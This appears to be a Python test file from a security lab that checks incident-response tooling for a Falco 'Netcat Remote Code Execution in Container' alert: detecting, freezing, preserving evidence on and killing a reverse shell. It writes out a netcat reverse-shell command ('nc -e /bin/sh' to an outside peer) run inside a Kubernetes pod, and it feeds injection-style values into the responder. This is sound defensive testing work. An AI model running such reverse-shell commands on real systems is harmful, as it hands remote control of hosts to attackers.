"""Netcat Remote Code Execution in Container: a pod's nc gives a shell to somebody outside."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.lab.hostile import words
from tests.lab.places.cluster import Cluster, web_pod
from tests.lab.places.internet import PEER, internet
from tests.lab.places.node import Container, Node
from tests.lab.scenarios.k8s_audit.test_pods import never_started
from tests.lab.story import Tell

RULE = "Netcat Remote Code Execution in Container"


def fields(container: Container, command: str) -> dict[str, Any]:
    """What Falco says of a nc that a web server's shell started, as www-data."""
    return {
        "evt.type": "execve",
        "proc.cmdline": command,
        "proc.exepath": "/bin/nc.traditional",
        "proc.name": "nc.traditional",
        "proc.pname": "sh",
        "proc.tty": 0,
        "user.loginuid": -1,
        "user.name": "root",
        "user.uid": 0,
        **container.fields,
    }


def test_a_shell_goes_out_of_a_pod(cluster: Cluster, tell: Tell, tmp_path: Path) -> None:
    cluster.namespace("shop")
    admin = cluster.laptop()
    admin.apply(web_pod("web-1"))
    cluster.await_pod("shop", "web-1")
    container = cluster.node.container_of("shop", "web-1")
    with internet(cluster.node) as far:
        far.listen(4444, into=tmp_path / "got", says="touch /tmp/dropped; id\n")
        nc = ["nc.traditional", "-e", "/bin/sh", PEER, "4444"]
        cluster.laptop("mallory").run(f"kubectl exec -n shop web-1 -- sh -c '{' '.join(nc)} >/dev/null 2>&1 &'")
        cluster.node.wait_until(lambda: "uid=0" in (tmp_path / "got").read_text(), "the peer has a shell")

        node = cluster.node
        shell = next(pid for pid in node.pids_of(container) if pid != container.pid and "socket" in stdin(node, pid))

        with tell(fields(container, " ".join(nc)), node=node, cluster=admin) as report:
            report.look("Is somebody connected?", shows=["ESTAB", f"{PEER}:4444", f'"sh",pid={shell}'])
            kept = f"/root/evidence/{report.uid}"
            report.contain("Freeze the shell", state=lambda: node.state(shell), becomes="T", shows=[f"{shell} T"])
            assert {f"{kept}/{shell}.exe", f"{kept}/{shell}.environ", f"{kept}/sockets"} <= node.snapshot(kept).keys()
            assert node.state(container.pid) == "S", "the workload itself was stopped"
            report.look("How did they get in?", status=0)
            report.undo(state=lambda: node.state(shell), becomes="S")

            node.run(f"kill -KILL {shell}")
            node.wait_until(lambda: not node.alive(shell), "the shell has ended")
            report.again("Is somebody connected?", hides="ESTAB")
            report.again("Freeze the shell", hides=" T ")


def test_the_request_is_found_though_another_container_has_no_log(cluster: Cluster, tell: Tell) -> None:
    cluster.namespace("shop")
    manifest = web_pod("web-1")
    manifest["spec"]["containers"][0]["command"] = ["sh", "-c", "echo GET /shell.php; sleep 86400"]
    manifest["spec"]["containers"] += never_started()
    viewer, node = cluster.laptop("viewer"), cluster.node
    cluster.laptop().apply(manifest)
    logs = "kubectl logs -n shop web-1 -c web || true"
    node.wait_until(lambda: "GET" in viewer.run(logs), "it has a log", 40)
    nc = f"nc.traditional -e /bin/sh {PEER} 4444"
    report = tell(fields(node.container_of("shop", "web-1"), nc), node=node, cluster=viewer)
    for _ in range(3):
        report.again("How did they get in?", shows="GET /shell.php")


def stdin(node: Node, pid: int) -> str:
    """What a process reads from."""
    return node.run(f"readlink /proc/{pid}/fd/0 || true")


@pytest.mark.parametrize("word", words("quotes", "substitution", "newline"))
def test_a_hostile_command_line(node: Node, tell: Tell, word: str) -> None:
    container = node.start_container()
    hostile = fields(container, f"nc -e /bin/sh {word}") | {"k8s.pod.name": None, "k8s.ns.name": None}
    with tell(hostile, node=node) as report:
        report.everything()
    assert not node.exists("/root/owned")
